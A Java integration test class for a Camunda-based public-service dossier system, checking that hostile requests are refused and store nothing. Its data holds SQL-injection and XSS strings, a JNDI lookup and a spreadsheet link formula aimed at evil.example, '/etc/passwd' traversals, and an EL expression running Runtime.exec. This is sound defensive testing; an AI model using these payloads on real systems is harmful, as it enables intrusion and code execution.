package vn.motcua.security;

import static org.assertj.core.api.Assertions.assertThat;
import static vn.motcua.security.AccessMatrixIT.assertProblem;

import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.function.Supplier;

import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.identity.User;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.util.MultiValueMap;

import com.fasterxml.jackson.databind.JsonNode;

import vn.motcua.support.IntegrationTest;
import vn.motcua.support.TestFiles;

/**
 * A corpus of hostile requests: each is refused with a 4xx problem body, never a 5xx, and stores
 * nothing; text that is merely unusual is stored as the inert text it is.
 */
class HostileRequestsIT extends IntegrationTest {

    @Autowired
    JdbcClient jdbc;

    @Autowired
    IdentityService identity;

    private long dossiers() {
        return jdbc.sql("select count(*) from dossier").query(Long.class).single();
    }

    /** The request is refused with this status and a problem body, and no dossier is stored. */
    private ResponseEntity<JsonNode> refused(int status, Supplier<ResponseEntity<JsonNode>> request) {
        long before = dossiers();
        ResponseEntity<JsonNode> response = request.get();
        assertProblem(response, status);
        assertThat(dossiers()).as("dossiers stored").isEqualTo(before);
        return response;
    }

    private static HttpEntity<String> json(String body) {
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(MediaType.APPLICATION_JSON);
        return new HttpEntity<>(body, headers);
    }

    private static Map<String, Object> submission(Map<String, Object> data) {
        return Map.of("procedureKey", PROCEDURE, "unitCode", UNIT, "channel", "ONLINE", "resultChannel", "ONLINE",
                "data", data);
    }

    /** The engine's queryMaxResultsLimit (2000): no unpaged lists, no oversized pages, even for the administrator. */
    @Nested
    class UnboundedQueries {

        @ParameterizedTest
        @ValueSource(strings = {"/engine-rest/task", "/engine-rest/history/process-instance", "/engine-rest/user",
                "/engine-rest/task?maxResults=2001", "/engine-rest/history/activity-instance?firstResult=0&maxResults=100000"})
        void shouldRefuseListsWithoutAPageOrAboveTheLimit(String path) {
            ResponseEntity<JsonNode> response = as("admin").getForEntity(path, JsonNode.class);
            assertProblem(response, 400);
            assertThat(response.getBody().get("title").asText()).isEqualTo("Query result limit");
        }

        @Test
        void shouldAnswerPagesUpToTheLimitAndCounts() {
            assertThat(as("admin").getForEntity("/engine-rest/task?firstResult=0&maxResults=2000", JsonNode.class)
                    .getStatusCode()).isEqualTo(HttpStatus.OK);
            assertThat(as("admin").getForEntity("/engine-rest/history/process-instance/count", JsonNode.class)
                    .getStatusCode()).isEqualTo(HttpStatus.OK);
        }

        @Test
        void shouldAnswerOtherRefusalsWithAProblemKeepingTheReason() {
            // Camunda Modeler and camunda-bpm-sdk-js show the "message" of an error body.
            ResponseEntity<JsonNode> response = as("admin").getForEntity("/engine-rest/task?maxResults=10&sortBy=created",
                    JsonNode.class);
            assertProblem(response, 400);
            assertThat(response.getBody().get("message").asText()).contains("sortOrder");
        }
    }

    @Nested
    class Bodies {

        @Test
        void shouldRefuseAnOversizedBody() {
            String body = "{\"procedureKey\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}";
            refused(413, () -> http.postForEntity("/api/dossiers", json(body), JsonNode.class));
        }

        @ParameterizedTest
        @ValueSource(strings = {"{", "{\"procedureKey\": }", "[]", "null", "\"text\"", "{\"procedureKey\": 1e999999}",
                "{\"procedureKey\":\"household_business_registration\",\"unitCode\":\"000.00.01.H01\",\"channel\":\"ONLINE\","
                        + "\"resultChannel\":\"ONLINE\",\"data\":{},\"isAdmin\":true}"})
        void shouldRefuseMalformedJson(String body) {
            refused(400, () -> http.postForEntity("/api/dossiers", json(body), JsonNode.class));
        }

        @Test
        void shouldRefuseDeeplyNestedJson() {
            String nested = "[".repeat(5000) + "]".repeat(5000);
            refused(400, () -> http.postForEntity("/api/dossiers",
                    json("{\"procedureKey\":\"x\",\"unitCode\":\"y\",\"channel\":\"ONLINE\",\"resultChannel\":\"ONLINE\","
                            + "\"data\":{\"a\":" + nested + "}}"), JsonNode.class));
        }

        @Test
        void shouldRefuseTheWrongContentType() {
            HttpHeaders headers = new HttpHeaders();
            headers.setContentType(MediaType.APPLICATION_XML);
            long before = dossiers();
            ResponseEntity<JsonNode> response = http.postForEntity("/api/dossiers",
                    new HttpEntity<>("<dossier/>", headers), JsonNode.class);
            assertThat(response.getStatusCode().value()).isEqualTo(415);
            assertThat(dossiers()).isEqualTo(before);
        }
    }

    @Nested
    class InjectionStrings {

        private static final List<String> CORPUS = List.of("' OR '1'='1' --", "'; drop table dossier; --",
                "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${7*7}", "#{7*7}", "{{7*7}}",
                "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "=HYPERLINK(\"http://evil.example\")",
                "\" onmouseover=\"alert(1)", "%00", "A".repeat(5000));

        @Test
        void shouldStoreInjectionStringsAsInertTextOrRefuseThem() {
            long units = jdbc.sql("select count(*) from unit").query(Long.class).single();
            for (String field : householdBusiness("x").keySet()) {
                for (String hostile : CORPUS) {
                    Map<String, Object> data = householdBusiness("Đinh Văn Toàn");
                    data.put(field, hostile);
                    long before = dossiers();
                    ResponseEntity<JsonNode> response = submit(UNIT, "ONLINE", "ONLINE", data);
                    String what = field + " = " + hostile.substring(0, Math.min(40, hostile.length()));
                    if (response.getStatusCode().is2xxSuccessful()) {
                        // Accepted: it is stored as exactly the text that was sent, nothing ran.
                        JsonNode stored = dossier(response.getBody().get("code").asText()).get("data").get(field);
                        assertThat(stored.isTextual() ? stored.asText() : stored.toString()).as(what).isEqualTo(hostile);
                        assertThat(dossiers()).as(what).isEqualTo(before + 1);
                    } else {
                        assertThat(response.getStatusCode().value()).as(what).isEqualTo(400);
                        assertProblem(response, 400);
                        assertThat(dossiers()).as(what).isEqualTo(before);
                    }
                }
            }
            assertThat(jdbc.sql("select count(*) from unit").query(Long.class).single()).isEqualTo(units);
        }

        @ParameterizedTest
        @ValueSource(strings = {"Nguyễn\u0000Văn", "Nguyễn\u001bVăn", "Nguyễn\u0007"})
        void shouldRefuseControlCharacters(String name) {
            ResponseEntity<JsonNode> response = refused(400, () -> submit(UNIT, "ONLINE", "ONLINE", householdBusiness(name)));
            assertThat(response.getBody().get("title").asText()).isEqualTo("Control characters");
        }

        @Test
        void shouldRefuseParametersOutOfShape() {
            assertProblem(as("reception").getForEntity("/api/notifications?dossier={code}", JsonNode.class,
                    UNIT + "-240101-" + "9".repeat(80)), 400);
            assertProblem(as("reception").getForEntity("/api/documents?q={q}&limit=100000", JsonNode.class, "pho"), 400);
        }

        @Test
        void shouldRefuseControlCharactersInParameters() {
            ResponseEntity<JsonNode> response = as("reception").getForEntity("/api/notifications?dossier={code}",
                    JsonNode.class, UNIT + "-240101-0001\u0000");
            assertProblem(response, 400);
        }
    }

    @Nested
    class PathTraversalFileNames {

        @ParameterizedTest
        @ValueSource(strings = {"../../../../../../tmp/motcua-traversal.pdf", "..\\..\\..\\motcua-traversal.pdf",
                "/etc/motcua-traversal.pdf", "%2e%2e%2fmotcua-traversal.pdf", "motcua-traversal.pdf/../../x.pdf"})
        void shouldNeverUseAFileNameAsAPath(String fileName) throws java.io.IOException {
            MultiValueMap<String, Object> files = new LinkedMultiValueMap<>();
            files.add("applicationForm", file(fileName, TestFiles.pdf("Giay de nghi")));
            files.add("identityPapers", file("cccd.png", TestFiles.png()));
            long before = dossiers();
            ResponseEntity<JsonNode> response = submit(UNIT, "ONLINE", "ONLINE", householdBusiness("Lạc Văn Long"), files);
            assertThat(response.getStatusCode().is5xxServerError()).as(String.valueOf(response.getBody())).isFalse();
            if (response.getStatusCode().is2xxSuccessful()) {
                String code = response.getBody().get("code").asText();
                JsonNode documents = as("reception").getForObject("/api/dossiers/{code}/documents", JsonNode.class, code);
                // The name is only ever shown; the file lies under a name the store made up (below).
                assertThat(documents).hasSize(2);
            } else {
                assertProblem(response, response.getStatusCode().value());
                assertThat(dossiers()).isEqualTo(before);
            }
            assertThat(java.nio.file.Path.of("/tmp/motcua-traversal.pdf")).doesNotExist();
            assertThat(java.nio.file.Path.of("/etc/motcua-traversal.pdf")).doesNotExist();
            try (var stored = java.nio.file.Files.walk(DOCUMENTS)) {
                assertThat(stored.filter(java.nio.file.Files::isRegularFile).map(path -> path.getFileName().toString()))
                        .allMatch(name -> name.matches("[0-9a-f-]{36}(\\.tmp)?"), "generated names only");
            }
        }
    }

    @Nested
    class ForgedDossierCodes {

        @ParameterizedTest
        @ValueSource(strings = {"000.00.01.H01-240101-9999", "000.00.02.H01-240101-0001", "x-000000-0000"})
        void shouldTellAnonymousCallersNothing(String code) {
            assertProblem(http.getForEntity("/api/dossiers/{code}", JsonNode.class, code), 401);
        }

        @Test
        void shouldAnswerNotFoundInTheOfficersOwnUnitAndForbiddenElsewhere() {
            assertProblem(as("reception").getForEntity("/api/dossiers/{code}", JsonNode.class, UNIT + "-240101-9999"), 404);
            assertProblem(as("reception").getForEntity("/api/dossiers/{code}", JsonNode.class, OTHER_UNIT + "-240101-0001"), 403);
        }

        @ParameterizedTest
        @ValueSource(strings = {"/api/dossiers/..%2F..%2Fetc%2Fpasswd", "/api/dossiers/%2e%2e/%2e%2e/api/units",
                "/api/dossiers/000.00.01.H01-240101-0001;jsessionid=x", "/api/dossiers/000.00.01.H01%00-240101-0001"})
        void shouldRefuseTraversalsInPaths(String path) {
            ResponseEntity<String> response = as("reception").getForEntity(java.net.URI.create(http.getRootUri() + path),
                    String.class);
            assertThat(response.getStatusCode().is4xxClientError()).as(path + " -> " + response.getStatusCode()).isTrue();
        }
    }

    @Nested
    class BruteForce {

        @Test
        void shouldLockAnOfficerOutAfterRepeatedBadPasswordsAndAuditThem() {
            String id = "brute" + UUID.randomUUID().toString().substring(0, 8);
            User user = identity.newUser(id);
            user.setPassword("right-password-1");
            identity.saveUser(user);
            assertThat(http.withBasicAuth(id, "right-password-1").getForEntity("/api/audit?unit=" + UNIT
                    + "&from=2024-01-01&to=2024-01-02", JsonNode.class).getStatusCode()).isEqualTo(HttpStatus.FORBIDDEN);

            for (int attempt = 0; attempt < 12; attempt++) {
                assertProblem(http.withBasicAuth(id, "guess-" + attempt).getForEntity("/api/dossiers/{code}",
                        JsonNode.class, UNIT + "-240101-0001"), 401);
            }
            // Locked by the engine for a while: even the right password is refused now.
            assertProblem(http.withBasicAuth(id, "right-password-1").getForEntity("/api/dossiers/{code}",
                    JsonNode.class, UNIT + "-240101-0001"), 401);
            long audited = jdbc.sql("select count(*) from audit_log where actor = ? and action = 'LOGIN_FAILED'")
                    .param(id).query(Long.class).single();
            assertThat(audited).isGreaterThanOrEqualTo(12);
        }
    }

    /** Issue 15 item 6: limit the guesser, never the applicant; X-Forwarded-For only from trusted proxies. */
    @Nested
    class BruteForcedSecrets {

        private ResponseEntity<JsonNode> track(String client, String code, String secret) {
            return track(http, client, code, secret);
        }

        private static ResponseEntity<JsonNode> track(org.springframework.boot.test.web.client.TestRestTemplate via,
                String forwardedFor, String code, String secret) {
            HttpHeaders headers = new HttpHeaders();
            headers.setContentType(MediaType.APPLICATION_JSON);
            if (forwardedFor != null) {
                headers.set("X-Forwarded-For", forwardedFor);
            }
            return via.postForEntity("/api/tracking", new HttpEntity<>(Map.of("code", code, "secret", secret), headers),
                    JsonNode.class);
        }

        @Test
        void shouldLimitTheGuesserAndStillOpenTheDossierForItsApplicant() {
            ResponseEntity<JsonNode> victim = submit(UNIT, "ONLINE", "ONLINE", householdBusiness("Kiều Thị Vân"));
            String code = victim.getBody().get("code").asText();
            String secret = victim.getBody().get("lookupSecret").asText();
            String attacker = "192.0.2." + (1 + new java.util.Random().nextInt(200));

            int limited = 0;
            for (int attempt = 0; attempt < 25; attempt++) {
                ResponseEntity<JsonNode> guess = track(attacker, code, "GUESS-%05d-AAAAA-BBBBB".formatted(attempt));
                assertThat(guess.getStatusCode().value()).as("attempt %d", attempt).isIn(404, 429);
                assertProblem(guess, guess.getStatusCode().value());
                assertThat(guess.getBody().toString()).doesNotContain("Kiều Thị Vân");
                limited += guess.getStatusCode().value() == 429 ? 1 : 0;
            }
            assertThat(limited).as("the guesser is refused as too many").isGreaterThanOrEqualTo(15);
            // Out of its limit, the guesser gets nothing even with the right secret...
            assertThat(track(attacker, code, secret).getStatusCode().value()).isEqualTo(429);

            // ... while the applicant, from anywhere else, still opens the dossier, as often as needed.
            for (int i = 0; i < 3; i++) {
                ResponseEntity<JsonNode> applicant = track("198.51.100." + (10 + i), code, secret);
                assertThat(applicant.getStatusCode()).as(String.valueOf(applicant.getBody())).isEqualTo(HttpStatus.OK);
            }
            // Other guessers each get their own few tries, not the applicant's.
            assertThat(track("203.0.113.9", code, "GUESS-99999-AAAAA-BBBBB").getStatusCode().value()).isEqualTo(404);
        }

        @Test
        void shouldIgnoreXForwardedForFromAnUntrustedClient() throws java.net.SocketException {
            // The tests' own requests come through 127.0.0.1, the trusted proxy; this one comes from the host's
            // network address, as a client on the Internet would, and forges a new address for every guess.
            java.net.InetAddress outside = java.util.Collections.list(java.net.NetworkInterface.getNetworkInterfaces()).stream()
                    .flatMap(nic -> java.util.Collections.list(nic.getInetAddresses()).stream())
                    .filter(address -> address instanceof java.net.Inet4Address && !address.isLoopbackAddress())
                    .findFirst().orElse(null);
            org.junit.jupiter.api.Assumptions.assumeTrue(outside != null, "the host has a network address");
            var direct = new org.springframework.boot.test.web.client.TestRestTemplate(new org.springframework.boot.web.client.RestTemplateBuilder()
                    .rootUri("http://" + outside.getHostAddress() + ":" + http.getRootUri().replaceAll(".*:", "")));
            String code = submitted("ONLINE", "ONLINE", "Kiều Thị Vân");

            int limited = 0;
            for (int attempt = 0; attempt < 15; attempt++) {
                ResponseEntity<JsonNode> guess = track(direct, "192.0.2." + (attempt + 1), code,
                        "GUESS-%05d-AAAAA-BBBBB".formatted(attempt));
                assertThat(guess.getStatusCode().value()).as("attempt %d", attempt).isIn(404, 429);
                limited += guess.getStatusCode().value() == 429 ? 1 : 0;
            }
            assertThat(limited).as("forged addresses count as the one client they come from").isPositive();
        }
    }

    @Nested
    class ReplayedSubmissions {

        private ResponseEntity<JsonNode> submitWithKey(String key, Map<String, Object> data) {
            return submitWithKey(key, data, requiredDocuments());
        }

        /** A multipart submission with its documents, as the portal sends it, under an Idempotency-Key. */
        private ResponseEntity<JsonNode> submitWithKey(String key, Map<String, Object> data,
                MultiValueMap<String, Object> files) {
            MultiValueMap<String, Object> parts = new LinkedMultiValueMap<>();
            HttpHeaders json = new HttpHeaders();
            json.setContentType(MediaType.APPLICATION_JSON);
            parts.add("submission", new HttpEntity<>(submission(data), json));
            parts.addAll(files);
            HttpHeaders headers = new HttpHeaders();
            headers.setContentType(MediaType.MULTIPART_FORM_DATA);
            headers.set(IdempotencyKeys.HEADER, key);
            return http.postForEntity("/api/dossiers", new HttpEntity<>(parts, headers), JsonNode.class);
        }

        @Test
        void shouldAnswerARetryWithTheSameDossier() {
            String key = "retry-" + UUID.randomUUID();
            // The very same files: a generated PDF differs from one call to the next (its creation time).
            MultiValueMap<String, Object> files = requiredDocuments();
            ResponseEntity<JsonNode> first = submitWithKey(key, householdBusiness("Tạ Văn Út"), files);
            assertThat(first.getStatusCode()).isEqualTo(HttpStatus.CREATED);
            assertThat(first.getBody().get("lookupSecret").asText()).isNotBlank();
            long after = dossiers();

            ResponseEntity<JsonNode> retry = submitWithKey(key, householdBusiness("Tạ Văn Út"), files);

            assertThat(retry.getStatusCode()).isEqualTo(HttpStatus.OK);
            assertThat(retry.getBody().get("code").asText()).isEqualTo(first.getBody().get("code").asText());
            assertThat(retry.getBody().get("lookupSecret").asText()).isEqualTo(first.getBody().get("lookupSecret").asText());
            assertThat(dossiers()).isEqualTo(after);
        }

        /** Issue 15 item 7: the lookup secret lay in clear in idempotency_key for 24 hours. */
        @Test
        void shouldStoreNeitherTheSecretNorTheKeyInClear() {
            String key = "retry-" + UUID.randomUUID();
            ResponseEntity<JsonNode> first = submitWithKey(key, householdBusiness("Tạ Văn Út"));
            String secret = first.getBody().get("lookupSecret").asText();

            List<Map<String, Object>> rows = jdbc.sql("select * from idempotency_key").query().listOfRows();
            assertThat(rows).isNotEmpty();
            assertThat(rows.toString()).doesNotContain(secret).doesNotContain(secret.replace("-", "")).doesNotContain(key);
        }

        @Test
        void shouldRefuseTheSameKeyForAnotherBody() {
            String key = "retry-" + UUID.randomUUID();
            MultiValueMap<String, Object> files = requiredDocuments();
            assertThat(submitWithKey(key, householdBusiness("Tạ Văn Út"), files).getStatusCode()).isEqualTo(HttpStatus.CREATED);
            Map<String, Object> other = new LinkedHashMap<>(householdBusiness("Tạ Văn Út"));
            other.put("capital", 1);
            refused(422, () -> submitWithKey(key, other, files));
        }

        @Test
        void shouldRefuseTheSameKeyWithOtherDocuments() {
            String key = "retry-" + UUID.randomUUID();
            assertThat(submitWithKey(key, householdBusiness("Tạ Văn Út")).getStatusCode()).isEqualTo(HttpStatus.CREATED);
            MultiValueMap<String, Object> other = new LinkedMultiValueMap<>();
            other.add("applicationForm", file("giấy-đề-nghị.pdf", TestFiles.pdf("Mot giay de nghi khac")));
            other.add("identityPapers", file("cccd.png", TestFiles.png()));
            // Same values, other documents: not the same request.
            refused(422, () -> submitWithKey(key, householdBusiness("Tạ Văn Út"), other));
        }

        @Test
        void shouldForgetAKeyWhoseSubmissionWasRefused() {
            String key = "retry-" + UUID.randomUUID();
            Map<String, Object> broken = householdBusiness("Tạ Văn Út");
            broken.put("capital", -1);
            refused(400, () -> submitWithKey(key, broken));
            assertThat(submitWithKey(key, householdBusiness("Tạ Văn Út")).getStatusCode()).isEqualTo(HttpStatus.CREATED);
        }

        @ParameterizedTest
        @ValueSource(strings = {"short", "has space in it", "key/with/slashes-1234"})
        void shouldRefuseMalformedKeys(String key) {
            refused(400, () -> submitWithKey(key, householdBusiness("Tạ Văn Út")));
        }
    }

    /** Issue 15 item 4: a value the engine could never read again blocked a dossier for everyone (500 on every read). */
    @Nested
    class UnreadableVariables {

        private Map<String, Object> objectValue(String type, String format, String value) {
            return Map.of("type", "Object", "value", value,
                    "valueInfo", Map.of("objectTypeName", type, "serializationDataFormat", format));
        }

        @ParameterizedTest(name = "{0} / {1}")
        @org.junit.jupiter.params.provider.CsvSource(delimiter = '|', value = {
                "com.example.Gadget|application/json|{}",
                "java.util.ArrayList<com.example.Gadget>|application/json|[]",
                "java.util.HashMap|application/x-java-serialized-object|rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
                "java.util.HashMap|application/xml|<map/>",
                "java.util.ArrayList|application/json|not json at all"})
        void shouldRefuseAtWriteTimeWhatTheEngineCouldNotRead(String type, String format, String value) {
            String code = submitted("ONLINE", "ONLINE", "Lý Thị Hoa");
            String taskId = engine.taskFor(code, "reception", "check_completeness");
            as("reception").postForEntity("/engine-rest/task/{id}/claim", Map.of("userId", "reception"), Void.class, taskId);

            // An officer, completing with a field of the form sent as an object of that type ...
            ResponseEntity<JsonNode> completion = as("reception").postForEntity("/engine-rest/task/{id}/complete",
                    Map.of("variables", Map.of("receptionOutcome", objectValue(type, format, value))), JsonNode.class, taskId);
            assertProblem(completion, 400);
            // ... or an administrator writing it directly.
            ResponseEntity<JsonNode> write = as("admin").exchange("/engine-rest/task/{id}/variables/note",
                    org.springframework.http.HttpMethod.PUT, new HttpEntity<>(objectValue(type, format, value)),
                    JsonNode.class, taskId);
            assertProblem(write, 400);

            // The task still reads and completes for everybody.
            assertThat(as("reception").getForEntity("/engine-rest/task/{id}/variables", JsonNode.class, taskId)
                    .getStatusCode()).isEqualTo(HttpStatus.OK);
            assertThat(engine.complete("reception", taskId, Map.of("receptionOutcome", "ACCEPT")).getStatusCode())
                    .isEqualTo(HttpStatus.NO_CONTENT);
        }

        @Test
        void shouldRefuseAJavaSerializedUploadAndKeepBinaryUploads() {
            String code = submitted("ONLINE", "ONLINE", "Lý Thị Hoa");
            String taskId = engine.taskFor(code, "reception", "check_completeness");
            java.util.function.Function<String, ResponseEntity<JsonNode>> upload = valueType -> {
                MultiValueMap<String, Object> parts = new LinkedMultiValueMap<>();
                parts.add("data", file("value.bin", new byte[] {(byte) 0xac, (byte) 0xed, 0, 5, 0x73, 0x72}));
                parts.add("valueType", valueType);
                if ("Object".equals(valueType)) {
                    parts.add("type", "java.util.HashMap");
                }
                HttpHeaders headers = new HttpHeaders();
                headers.setContentType(MediaType.MULTIPART_FORM_DATA);
                return as("admin").postForEntity("/engine-rest/task/{id}/variables/scan/data",
                        new HttpEntity<>(parts, headers), JsonNode.class, taskId);
            };

            assertProblem(upload.apply("Object"), 400);
            assertThat(upload.apply("Bytes").getStatusCode()).isEqualTo(HttpStatus.NO_CONTENT);
            assertThat(as("reception").getForEntity("/engine-rest/task/{id}/variables", JsonNode.class, taskId)
                    .getStatusCode()).isEqualTo(HttpStatus.OK);
        }

        @Test
        void shouldAcceptJsonOfAnAllowListedType() {
            String code = submitted("ONLINE", "ONLINE", "Lý Thị Hoa");
            String taskId = engine.taskFor(code, "reception", "check_completeness");
            ResponseEntity<JsonNode> write = as("admin").exchange("/engine-rest/task/{id}/variables/note",
                    org.springframework.http.HttpMethod.PUT, new HttpEntity<>(objectValue("java.util.ArrayList<java.lang.String>",
                            "application/json", "[\"a\"]")), JsonNode.class, taskId);
            assertThat(write.getStatusCode()).isEqualTo(HttpStatus.NO_CONTENT);
            assertThat(as("reception").getForEntity("/engine-rest/task/{id}/variables", JsonNode.class, taskId)
                    .getStatusCode()).isEqualTo(HttpStatus.OK);
        }
    }

    /** Issue 15 item 5: an administrator's deployment ran an OS command and reached every engine service. */
    @Nested
    class DeployedCode {

        private static final java.nio.file.Path MARKER = java.nio.file.Path.of("/tmp/motcua-deployed-shell");

        private ResponseEntity<JsonNode> deploy(String expression) {
            String bpmn = """
                    <?xml version="1.0" encoding="UTF-8"?>
                    <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
                        xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="definitions_shell" targetNamespace="x">
                      <bpmn:process id="shell" name="Vỏ" isExecutable="true" camunda:historyTimeToLive="1">
                        <bpmn:startEvent id="start"/>
                        <bpmn:sequenceFlow id="flow_run" sourceRef="start" targetRef="run_command"/>
                        <bpmn:serviceTask id="run_command" name="Chạy lệnh" camunda:expression="%s"/>
                      </bpmn:process>
                    </bpmn:definitions>
                    """.formatted(expression);
            MultiValueMap<String, Object> parts = new LinkedMultiValueMap<>();
            parts.add("deployment-name", "shell");
            parts.add("shell.bpmn", file("shell.bpmn", bpmn.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
            HttpHeaders headers = new HttpHeaders();
            headers.setContentType(MediaType.MULTIPART_FORM_DATA);
            return as("admin").postForEntity("/engine-rest/deployment/create", new HttpEntity<>(parts, headers), JsonNode.class);
        }

        @ParameterizedTest
        @ValueSource(strings = {
                "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('touch /tmp/motcua-deployed-shell')}",
                "${identityService.createUserQuery().list()}", "${execution.getProcessEngineServices().getRuntimeService()}",
                "${execution.processEngineServices.identityService}", "${deadlines.getClass().getClassLoader()}"})
        void shouldRefuseADeploymentWhoseExpressionsReachBeyondProcessBeans(String expression) {
            ResponseEntity<JsonNode> response = deploy(expression);

            assertThat(response.getStatusCode()).as(String.valueOf(response.getBody())).isEqualTo(HttpStatus.BAD_REQUEST);
            assertThat(response.getBody().path("message").asText()).contains("shell.bpmn › run_command «Chạy lệnh»")
                    .contains("expression '" + expression + "'");
            assertThat(as("admin").getForObject("/engine-rest/deployment/count?name=shell", JsonNode.class)
                    .path("count").asInt()).isZero();
            assertThat(MARKER).doesNotExist();
        }
    }

    /** Issue 15, item 1: bodies that would fill the heap. */
    @Nested
    class MemoryExhaustion {

        @Test
        void shouldRefuseAChunkedBodyPastTheLimit() throws Exception {
            // No Content-Length: the limit is counted while the body is read (1 MB limit, 2.5 MB sent).
            long before = dossiers();
            HttpResponse<String> response = chunked("/api/dossiers", null, jsonOfSize(5 * 512 * 1024));
            assertThat(response.statusCode()).as(response.body()).isEqualTo(413);
            assertThat(response.body()).contains("Request too large");
            assertThat(dossiers()).isEqualTo(before);
        }

        @Test
        void shouldRefuseAChunkedBodyToTheEngineRestApiPastTheLimit() throws Exception {
            HttpResponse<String> response = chunked("/engine-rest/task/count", "reception", jsonOfSize(5 * 512 * 1024));
            assertThat(response.statusCode()).as(response.body()).isEqualTo(413);
        }

        @Test
        void shouldStillAnswerAChunkedBodyWithinTheLimit() throws Exception {
            HttpResponse<String> response = chunked("/engine-rest/task/count", "reception",
                    "{\"processVariables\":[]}".getBytes(StandardCharsets.UTF_8));
            assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        }

        @Test
        void shouldRefuseAWordFileThatInflatesAThousandfold() {
            MultiValueMap<String, Object> files = new LinkedMultiValueMap<>();
            files.add("applicationForm", file("don.docx", TestFiles.docxBomb(300L * 1024 * 1024)));
            files.add("identityPapers", file("cccd.png", TestFiles.png()));
            ResponseEntity<JsonNode> response = refused(400, () -> submit(UNIT, "ONLINE", "ONLINE",
                    householdBusiness("Hà Văn Bom"), files));
            assertThat(response.getBody().get("violations").findValuesAsText("code")).contains("malformed");
        }

        /** A JSON submission of about {@code size} bytes, in strings short enough for Jackson's string limit. */
        private static byte[] jsonOfSize(int size) {
            String strings = String.join(",", java.util.Collections.nCopies(size / 1000, "\"" + "x".repeat(997) + "\""));
            return ("{\"procedureKey\":\"" + PROCEDURE + "\",\"unitCode\":\"" + UNIT + "\",\"channel\":\"ONLINE\","
                    + "\"resultChannel\":\"ONLINE\",\"data\":{\"notes\":[" + strings + "]}}")
                    .getBytes(StandardCharsets.UTF_8);
        }

        private HttpResponse<String> chunked(String path, String user, byte[] body) throws Exception {
            HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(http.getRootUri() + path))
                    .header("Content-Type", "application/json")
                    // ofInputStream has no length: the client sends Transfer-Encoding: chunked.
                    .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body)));
            if (user != null) {
                request.header("Authorization", "Basic " + Base64.getEncoder()
                        .encodeToString((user + ":" + PASSWORD).getBytes(StandardCharsets.UTF_8)));
            }
            HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
            return client.send(request.build(), HttpResponse.BodyHandlers.ofString());
        }
    }

    /** Issue 15, item 2: uploads must not hold pooled connections while they are inspected. */
    @Nested
    class ConnectionPool {

        @Autowired
        javax.sql.DataSource dataSource;

        @Autowired
        vn.motcua.documents.SpoolDirectory spool;

        @Test
        void shouldHoldNoConnectionWhileASubmissionIsInspected() throws Exception {
            // A submission that held a connection in an open transaction for its whole inspection (under an
            // Idempotency-Key, it did) left everybody else waiting past the pool's timeout once a few uploads
            // ran at once. All but two pooled connections are taken: one for the officer's request, one for
            // the job executor and the submission's own short transactions, which a loaded machine needs.
            int size = ((com.zaxxer.hikari.HikariDataSource) dataSource).getMaximumPoolSize();
            List<java.sql.Connection> taken = new ArrayList<>();
            ExecutorService client = Executors.newSingleThreadExecutor();
            try {
                for (int i = 0; i < size - 2; i++) {
                    taken.add(dataSource.getConnection());
                }
                byte[] docx = TestFiles.docx(words(8_000_000));
                Future<ResponseEntity<JsonNode>> submission = client.submit(() -> {
                    MultiValueMap<String, Object> files = new LinkedMultiValueMap<>();
                    files.add("applicationForm", file("don.docx", docx));
                    files.add("identityPapers", file("cccd.png", TestFiles.png()));
                    HttpEntity<MultiValueMap<String, Object>> body = submission(PROCEDURE, UNIT, "ONLINE", "ONLINE",
                            householdBusiness("Bùi Văn Song"), files);
                    HttpHeaders headers = new HttpHeaders();
                    headers.putAll(body.getHeaders());
                    headers.set(IdempotencyKeys.HEADER, "pool-" + UUID.randomUUID());
                    return http.postForEntity("/api/dossiers", new HttpEntity<>(body.getBody(), headers), JsonNode.class);
                });
                // Once the Word file is being inspected (its spool exists), an officer's request needs the last connection.
                long until = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
                while (!inspecting() && !submission.isDone() && System.nanoTime() < until) {
                    Thread.sleep(20);
                }
                assertThat(inspecting()).as("the upload is being inspected").isTrue();
                assertThat(transactionsHeldOpen(taken.get(0))).as("transactions held open during the inspection")
                        .isZero();
                ResponseEntity<JsonNode> officer = as("reception").getForEntity("/api/dossiers/{code}", JsonNode.class,
                        UNIT + "-240101-9999");
                assertThat(officer.getStatusCode().value()).as(String.valueOf(officer.getBody())).isEqualTo(404);
                ResponseEntity<JsonNode> response = submission.get(5, TimeUnit.MINUTES);
                assertThat(response.getStatusCode()).as(String.valueOf(response.getBody())).isEqualTo(HttpStatus.CREATED);
            } finally {
                client.shutdownNow();
                for (java.sql.Connection connection : taken) {
                    connection.close();
                }
            }
        }

        /** Sessions of this test database idle inside a transaction for more than a second. */
        private static long transactionsHeldOpen(java.sql.Connection connection) throws java.sql.SQLException {
            try (var statement = connection.prepareStatement("select count(*) from pg_stat_activity"
